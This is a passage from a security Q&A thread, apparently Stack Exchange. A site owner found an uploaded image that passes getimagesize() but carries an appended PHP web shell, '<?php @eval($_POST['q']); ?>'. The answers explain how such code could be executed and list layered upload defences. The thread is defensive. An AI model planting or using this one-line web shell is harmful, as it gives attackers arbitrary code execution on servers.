I have a site which allows users to upload images. One uploaded file was recently detected by antivirus software (uploads aren't scanned, this was a system wide scan after)

Upon upload, I check the file extension, the MIME type and also use getimagesize() which returns false if it's not a valid image.

However, it does appear to be a valid image. It loads on the website and on Windows. However, at the end of the file it contains the following

<?php @eval($_POST['q']); ?>

Uploaded images are moved to a publicly accessible folder (with directory indexingdisabled) and linked from there (the image is displayed on the page using the HTML <img /> element with a direct link to the image file.

Should I be worried about this? My thinking is that it doesn't matter because I'm not including the file within PHP code, and I'm just serving it directly through nginx, but it does make me feel a bit uneasy. Can I even do anything to prevent this, other than configuring ClamAV or similar to scan uploads? I thought utilising getimagesize() was an accepted solution for verifying a file is an image as I've seen it referenced a few times on here, but in this scenario it didn't detect PHP within the file.

2 Answers 2


Yes, you should be worried. Depending on how exactly the web server is configured, an attacker may be able to trick it into executing codeembedded in images, e.g., with a PATH_INFO attack or with a double extension like .png.php. Another possible attack vector is a Local File Inclusion Attack where the code is executed through another (vulnerable) script. Even if you've completely disabled server-side script execution for the upload directory, you still have to worry about attacks against clients.

As to preventing attacks: Files which have the structure of an image can stillcontain malicious code, so checking the format doesn't help much. Code may be embedded in textual metadata (like tEXt chunks in the PNG format) or directly in the image data. By the way, the PHP documentation explicitly says that getimagesize() shouldn't be used to check if a file is a valid image.

Accepting file uploads is inherently risky and requires multiple layers of protection. Note that you have to consider both attacks against the server (as shown in your example) and attacks against clients (e.g., cross-site scripting with embedded JavaScript code).

  • First off, you absolutely should not put uploaded files in a publicly accessible folder. Move the files to a directory outside of the document root. Even better, store them in a container/VM or a database, because this makes it a lot harder for attackers to reference the files directly. If you store the images in the filesystem, then generate the filename randomly and choose the file extension from a whitelist of valid extensions (don't accept the user-provided filename or extension). For example, you may choose .png, .jpg or .gif based on the results of finfo_file. Note that .svg can contain scripts by design and should therefore not be allowed.
  • Create a script to serve the uploaded files. This script has to explicitly set the Content-Type header to an image type and the X-Content-Type-Options header to nosniff to avoid any MIME sniffing attacks.
  • Ideally, put the script on a completely separate domain (not a subdomain), so that the Same-Origin Policy isolates the uploaded files from the main application.• Use Content Security Policy to disable execution of client-side scripts. Set a Content-Security-Policy: sandbox; header, for example.

This may not address your concern completely, but nonetheless: it is normal to do some processing on uploaded images to harmonize them (if for example you accept several file formats such as jpg png etc), resize them, possibly add watermarks on them. This is common practice for user avatars, because we want them to fit nicely in our website layout.

Many websites will also strip EXIF data (which could contain geolocation information) for privacy reasons. In fact, I would say that most mainstream sites nowadays perform at least one those operations, and do not blindly accept pictures in their original form.

If you're using PHP you can use the plain old GD functions or ImageMagick - merely converting the images using these tools might very well drop the garbage. Or it could cause parsing errors, making the upload fail. That is something I definitely would want to test.

Unless you've messed badly with your Nginx configuration or the MIME types, that attack shouldn't be readily exploitable.

There have been flaws in tools like ImageMagick, so in theory you could be exposed to yet unknown vulnerabilities like buffer overflows and the like. To mitigate this you could run the sanitization script in a container (eg Docker) or at least usea Linux namespace so that the file system on the server is not exposed. You just need a temporary volume. Tools like Firejail make it even easier.

And you can still use ClamAV. In fact, I would definitely collect the intercepted files to see what attackers are up to, and use that material for testing.

  • Trying to "sanitize" images is an extremely fragile approach and will only lead to anarms race with attackers who come up with more and more creative ways of circumventing the "sanitization" heuristics. At best, this would be a bonus feature to address privacy issues (as you've pointed out) and maybe stop a few simple attacks.
    – Ja1024
    Commented May 9 at 3:22

You must log in to answer this question.

Not the answer you're looking for? Browse other questions tagged .